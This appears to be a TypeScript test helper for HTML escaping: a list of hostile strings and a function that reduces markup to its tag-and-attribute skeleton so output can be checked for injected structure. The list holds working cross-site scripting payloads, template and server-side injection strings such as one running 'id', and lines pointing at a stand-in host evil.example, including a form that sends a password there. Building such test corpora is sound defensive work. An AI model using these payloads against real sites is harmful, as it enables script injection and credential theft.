/** Text that has broken out of pages before: tags, attributes, entities, comments, scripts, odd Unicode. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</option></select><img src=x onerror=alert(1)>",
  "</style><svg onload=alert(1)>",
  "</td></tr></table><h1>x</h1>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '"onclick=alert(1)//',
  "`onclick=alert(1)",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<object data=data:text/html,<script>alert(1)</script>>",
  "<embed src=//evil.example/x.swf>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example><input name=password>",
  "<input type=hidden name=_csrf value=stolen>",
  "<a href=javascript:alert(1)>here</a>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<style>*{background:url(//evil.example)}</style>",
  '<div style="background:url(//evil.example)">',
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script>-->",
  "<!-- -- --><b>",
  "--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><b/>",
  "<!doctype html><html>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&quot; onclick=&quot;alert(1)",
  "&amp;lt;b&amp;gt;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\u003cscr\u0000ipt>alert(1)</script>",
  "\ufeff<script>alert(1)</script>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\u202e<tpircs>\u202c",
  "<\n/script\n>",
  '<b\f="">',
  "<a/b='c'd=e>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= system('id') %>",
  "javascript:alert(1)//<b>",
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><b>',
  ']]>\'"><b a=\'b" c="d',
  "\"'`<>&;=/\\",
];

/**
 * The elements and attribute names of a page, in order. Reads strictly what the HTML standard calls tags, and a script's or a
 * textarea's text as such, so two texts that are only text leave the same skeleton.
 */
export function skeletonOf(html: string): string[] {
  const found: string[] = [];
  let at = 0;
  while (at < html.length) {
    const open = html.indexOf("<", at);
    if (open < 0) break;
    const tag = /^<(\/?[a-zA-Z][^\s/>]*|![^>]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/.exec(html.slice(open));
    if (!tag) throw new Error(`No tag at: ${html.slice(open, open + 60)}`);
    const names = [...(tag[2] ?? "").matchAll(/\s+([^\s=>/]+)(?:="[^"]*")?/g)].map((attribute) => attribute[1]);
    found.push([tag[1], ...names].join(" "));
    at = open + tag[0].length;
    const raw = /^(script|style|textarea|title)$/i.exec(tag[1]!);
    if (raw) at = html.indexOf(`</${raw[1]!}`, at);
  }
  return found;
}
